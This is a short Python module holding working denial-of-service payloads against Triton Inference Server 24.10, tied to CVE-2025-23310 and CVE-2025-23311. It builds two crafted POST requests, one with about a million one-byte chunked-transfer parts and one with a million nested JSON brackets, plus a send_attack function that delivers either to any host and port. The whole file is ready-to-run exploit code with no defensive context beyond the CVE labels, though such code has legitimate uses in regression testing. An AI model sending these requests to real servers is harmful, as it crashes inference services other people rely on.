"""Requests that crash Triton 24.10 (CVE-2025-23310, CVE-2025-23311), as parts to send."""

from __future__ import annotations

import socket
from contextlib import suppress

_HEAD = b"POST /v2/models/ensemble/generate HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\n"
_PARTS = 100
# A million chunks of a byte: Triton gathers a body's parts on its stack.
MANY_CHUNKS = (_HEAD + b"Transfer-Encoding: chunked\r\n\r\n", *([b"1\r\na\r\n" * 10_000] * _PARTS), b"0\r\n\r\n")
# A million open brackets: its JSON parser recurses.
DEEP_JSON = (_HEAD + b"Content-Length: 1000000\r\n\r\n", *([b"[" * 10_000] * _PARTS))


def send_attack(address: str, parts: tuple[bytes, ...]) -> None:
    """Send ``parts`` to ``host:port``, and wait for an answer or the end of the connection."""
    host, _, port = address.rpartition(":")
    with suppress(ConnectionError), socket.create_connection((host, int(port)), 60) as client:
        for part in parts:
            client.sendall(part)
        client.recv(1000)
